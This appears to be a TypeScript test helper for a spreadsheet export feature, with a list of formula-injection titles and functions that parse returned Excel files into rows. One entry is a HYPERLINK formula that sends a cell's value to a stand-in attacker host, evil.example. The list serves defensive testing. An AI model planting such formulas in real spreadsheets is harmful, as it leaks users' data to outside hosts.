import ExcelJS from 'exceljs';
import type { Response, Test } from 'supertest';

/** Titles a spreadsheet would run, were they typed into it. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
  '＝1+1 路灯坏了',
  '+86 路灯坏了',
  '＋1 路灯坏了',
  '-2+3 路灯坏了',
  '－1 路灯坏了',
  '@SUM(A1:A9)',
  '＠SUM(A1)',
];

/** The answer with its body as bytes. */
export const taken = (asked: Test): Promise<Response> =>
  asked.buffer(true).parse((reply, done) => {
    const pieces: Buffer[] = [];
    reply.on('data', (piece: Buffer) => pieces.push(piece));
    reply.on('end', () => done(null, Buffer.concat(pieces)));
  });

/** The one sheet of a file, as another program reads it. */
export async function sheetIn(file: Buffer): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as unknown as ArrayBuffer);
  return book.worksheets[0]!;
}

/** The rows below the titles, by title; cells without a value are null. */
export function rowsOf(sheet: ExcelJS.Worksheet): Record<string, unknown>[] {
  const titles = (sheet.getRow(2).values as string[]).slice(1);
  return Array.from({ length: Math.max(0, sheet.rowCount - 2) }, (_, i) => {
    const cells = sheet.getRow(i + 3);
    return Object.fromEntries(titles.map((title, at) => [title, cells.getCell(at + 1).value]));
  });
}
